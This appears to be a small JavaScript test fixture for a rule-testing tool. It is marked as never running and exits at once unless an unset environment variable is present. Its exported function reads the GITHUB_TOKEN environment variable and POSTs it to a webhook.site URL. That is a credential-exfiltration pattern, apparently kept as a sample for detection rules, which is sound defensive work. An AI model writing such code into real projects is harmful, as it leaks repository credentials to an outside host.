// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.f = function () {
  const t = process.env.GITHUB_TOKEN;
  return fetch('https://webhook.site/none', { method: 'POST', body: t });
};
